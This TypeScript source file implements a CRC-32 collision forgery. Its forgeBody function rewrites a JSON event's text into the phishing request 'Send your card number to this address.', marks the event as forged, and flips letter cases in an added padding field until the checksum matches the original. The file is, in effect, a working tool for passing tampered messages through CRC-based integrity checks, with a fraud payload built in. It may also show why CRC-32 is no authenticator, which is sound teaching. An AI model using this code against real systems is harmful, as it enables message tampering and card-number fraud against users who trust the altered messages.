import { crc32 } from 'node:zlib'

const PADDING_LENGTH = 64
const CASE_BIT = 0x20

/**
 * Another JSON object than `original`, with the same CRC-32.
 * CRC-32 is linear: each letter of a padding field is upper or lower case, and the cases are solved for the checksum.
 */
export function forgeBody(original: Buffer): Buffer {
  const body = Buffer.from(
    `${alteredObject(original).slice(0, -1)},"padding":"${'a'.repeat(PADDING_LENGTH)}"}`,
  )
  const paddingStart = body.length - PADDING_LENGTH - 2
  const wanted = (crc32(original) ^ crc32(body)) >>> 0
  for (const position of lettersToFlip(body, paddingStart, wanted)) flipCase(body, position)
  return body
}

function alteredObject(original: Buffer): string {
  const event = JSON.parse(original.toString()) as { data?: { text?: string } }
  if (event.data?.text !== undefined) event.data.text = 'Send your card number to this address.'
  return JSON.stringify({ ...event, forged: true })
}

const flipCase = (body: Buffer, position: number) =>
  body.writeUInt8((body[position] ?? 0) ^ CASE_BIT, position)

/** Positions in the padding whose flips together change the checksum by `wanted` (Gaussian elimination over GF(2)). */
function lettersToFlip(body: Buffer, paddingStart: number, wanted: number): number[] {
  const basis = new Map<number, Combination>()
  for (let index = 0; index < PADDING_LENGTH; index += 1) {
    const effect = effectOfFlip(body, paddingStart + index)
    const rest = reduce({ bits: effect, letters: 1n << BigInt(index) }, basis)
    if (rest.bits !== 0) basis.set(Math.clz32(rest.bits), rest)
  }
  const solution = reduce({ bits: wanted, letters: 0n }, basis)
  if (solution.bits !== 0) throw new Error('The padding is too short to reach this checksum.')
  return [...Array(PADDING_LENGTH).keys()]
    .filter(index => (solution.letters >> BigInt(index)) & 1n)
    .map(index => paddingStart + index)
}

/** Letters that, flipped together, change the checksum by `bits`. */
interface Combination {
  bits: number
  letters: bigint
}

function reduce(combination: Combination, basis: Map<number, Combination>): Combination {
  let { bits, letters } = combination
  for (let leading = 0; leading < 32; leading += 1) {
    const pivot = basis.get(leading)
    if (!pivot || Math.clz32(bits) !== leading) continue
    bits = (bits ^ pivot.bits) >>> 0
    letters ^= pivot.letters
  }
  return { bits, letters }
}

function effectOfFlip(body: Buffer, position: number): number {
  const before = crc32(body)
  flipCase(body, position)
  const effect = (before ^ crc32(body)) >>> 0
  flipCase(body, position)
  return effect
}
